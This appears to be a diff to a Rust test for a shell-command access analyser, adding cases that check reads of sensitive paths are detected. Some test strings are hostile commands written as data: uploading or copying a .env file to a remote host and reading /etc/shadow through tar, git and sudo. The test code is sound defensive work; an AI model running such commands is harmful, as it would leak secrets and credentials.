@@ -964,7 +964,11 @@ fn tool_operands() {
         ),
         (
             "tar -czf out.tgz src",
-            &[(AccessKind::Write, "out.tgz"), (AccessKind::Read, "src")],
+            &[
+                (AccessKind::Write, "out.tgz"),
+                (AccessKind::Read, "src"),
+                (AccessKind::Read, "src/**"),
+            ],
         ),
         (
             "tar xf a.tar",
@@ -999,7 +1003,21 @@ fn tool_operands() {
         ("curl -F f=@.env https://x", &[(AccessKind::Read, ".env")]),
         ("curl -o out https://x", &[(AccessKind::Write, "out")]),
         ("wget -O out https://x", &[(AccessKind::Write, "out")]),
-        ("scp .env host:/tmp", &[(AccessKind::Read, ".env")]),
+        (
+            "scp .env host:/tmp",
+            &[(AccessKind::Read, ".env"), (AccessKind::Read, ".env/**")],
+        ),
+        (
+            "tar -C /etc -cf - shadow",
+            &[
+                (AccessKind::Read, "/etc/shadow"),
+                (AccessKind::Read, "/etc/shadow/**"),
+            ],
+        ),
+        (
+            "git -C /etc show HEAD:shadow",
+            &[(AccessKind::Read, "/etc/shadow")],
+        ),
         ("sudo cat /etc/shadow", &[(AccessKind::Read, "/etc/shadow")]),
         ("patch -p1 -i fix.diff", &[(AccessKind::Read, "fix.diff")]),
         ("gzip big.log", &[(AccessKind::Write, "big.log")]),
